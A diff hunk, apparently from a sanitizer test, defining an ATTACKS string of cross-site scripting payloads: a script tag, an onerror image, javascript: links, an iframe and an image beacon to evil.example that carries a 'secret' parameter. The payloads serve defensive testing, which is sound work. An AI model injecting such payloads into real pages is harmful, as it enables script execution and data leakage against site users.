@@ -44,6 +44,7 @@ See the [original paper](https://example.org/attention) for the details."""
 
 ATTACKS = """<script>window.attacked = 1</script>
 <img src=x onerror="window.attacked = 2">
+
 [link](javascript:window.attacked=3) ![pixel](https://evil.example/collect?q=secret)
 <a href="javascript:window.attacked=4">raw</a> <iframe src="https://evil.example/"></iframe>
 
